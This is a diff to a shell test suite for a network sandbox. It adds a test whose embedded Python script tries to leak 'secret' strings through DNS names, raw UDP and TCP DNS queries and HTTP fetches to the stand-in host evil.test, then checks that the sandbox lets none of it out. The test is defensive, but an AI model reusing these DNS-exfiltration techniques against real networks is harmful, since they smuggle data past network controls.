@@ -9,12 +9,14 @@ setup_file() {
 	cp "$SBX_PROBE" "$HOME/project/probe"
 	cp "$BATS_TEST_DIRNAME/raw.py" "$HOME/project/"
 	port=$(server web server.py --log "$HOME/run/requests")
-	export port
+	network=${SBX_TEST_NETWORK:-native}
+	export port network
 	policy <<END
 version: 1
 prompt: {without-agent: deny}
 profiles:
   default:
+    network: $network
     allow:
       net:access: ["good.test:$port", "*.good.test:$port"]
     deny:
@@ -23,6 +25,7 @@ profiles:
       good.test.evil.test: 127.0.0.1, evil.test: 127.0.0.1}
   nothing:
     extends: [base]
+    network: $network
     allow:
       net:access: []
     hosts: {good.test: 127.0.0.1}
@@ -144,6 +147,91 @@ raw() { # raw TEXT…: by raw.py
 @test "attack_n_04 the Host header that goes on is the authority" {
 	raw "GET http://good.test:$port/host HTTP/1.1\r\nHost: bad.test\r\nConnection: close\r\n\r\n"
 	lacks "$output" "host=bad.test"
+}
+
+@test "attack_n_05 no packet leaves for a name or address that was not allowed, also while it is asked about" {
+	policy_before=$(<"$HOME/.config/sbx/policy.yaml")
+	policy <<END
+version: 1
+prompt: {timeout: 2s, without-agent: wait}
+profiles:
+  default:
+    network: $network
+    allow:
+      net:access: [{target: "*.good.test", private: true}]
+    deny:
+      net:access: ["*.evil.test"]
+END
+	cat >names.py <<'END'
+import socket, sys, urllib.request
+
+def query(name):
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
+
+def attempt(what, *arguments):
+    try:
+        print(what.__name__, "answered", what(*arguments))
+    except Exception as error:
+        print(what.__name__, type(error).__name__, error)
+
+def udp(address, name):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as fd:
+        fd.settimeout(3)
+        fd.connect((address, 53))
+        fd.send(query(name))
+        return len(fd.recv(512))
+
+def unconnected(address, name):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as fd:
+        fd.settimeout(3)
+        fd.sendto(query(name), (address, 53))
+        return len(fd.recv(512))
+
+def tcp(address, name):
+    with socket.create_connection((address, 53), timeout=5) as fd:
+        fd.sendall(len(query(name)).to_bytes(2, "big") + query(name))
+        return len(fd.recv(512))
+
+def fetch(url):
+    return urllib.request.urlopen(url, timeout=10).read()
+
+long = ".".join(["secret" + "x" * 50] * 3)
+attempt(socket.gethostbyname, f"{long}.evil.test")
+attempt(socket.getaddrinfo, f"{long}.undecided.test", 80)
+attempt(socket.gethostbyname, "secret-word")
+for address in "127.0.0.1", "192.0.2.53":
+    for way in udp, unconnected, tcp:
+        attempt(way, address, "secret.undecided.test")
+        attempt(way, address, "secret.evil.test")
+attempt(fetch, "http://secret.evil.test/x")
+attempt(fetch, "http://secret.undecided.test/x")
+attempt(socket.create_connection, ("secret.undecided.test", 443), 5)
+END
+	in_own_network '
+		printf "nameserver 127.0.0.1\n" >"$HOME/run/resolv.conf" && mount --bind "$HOME/run/resolv.conf" /etc/resolv.conf &&
+			printf "hosts: files dns\n" >"$HOME/run/nsswitch.conf" &&
+			mount --bind "$HOME/run/nsswitch.conf" /etc/nsswitch.conf || exit 9
+		rm -f "$HOME/run/wire.ready" "$HOME/run/there"
+		python3 "$TESTS/wire.py" --ready "$HOME/run/wire.ready" --log "$HOME/run/wire" --answer 127.0.0.1 >"$HOME/run/wire.log" 2>&1 &
+		wire=$!
+		plain python3 "$TESTS/server.py" --port-file "$HOME/run/there" >"$HOME/run/there.log" 2>&1 &
+		there=$!
+		until [ -e "$HOME/run/wire.ready" ] && [ -e "$HOME/run/there" ]; do kill -0 "$wire" "$there" || exit 9; sleep 0.05; done
+		plain sbx run --profile default -- python3 names.py >"$HOME/run/names" 2>&1
+		cp "$HOME/run/wire" "$HOME/run/wire.denied"
+		plain sbx run -- curl -sS --max-time 20 "http://secret.good.test:$(cat "$HOME/run/there")/x" >"$HOME/run/fetched" 2>&1
+		kill "$wire" "$there"'
+	policy <<<"$policy_before"
+	tail -n 30 "$HOME/run/wire.log" "$HOME/run/names" "$HOME/run/fetched"
+	# what was allowed leaves, and would have been seen
+	grep -q "hello /x" "$HOME/run/fetched"
+	grep -q 'secret\.good\.test' "$HOME/run/wire"
+	grep -q secret "$HOME/run/names"
+	run grep -a secret "$HOME/run/wire.denied"
+	echo "$output"
+	[ "$status" = 1 ]
+	grep -q 'secret.undecided.test:80 (nobody answered prompt' "$HOME/run/names"
 }
 
 @test "attack_n_06 an allowed name that resolves to a private address is refused without private: true" {
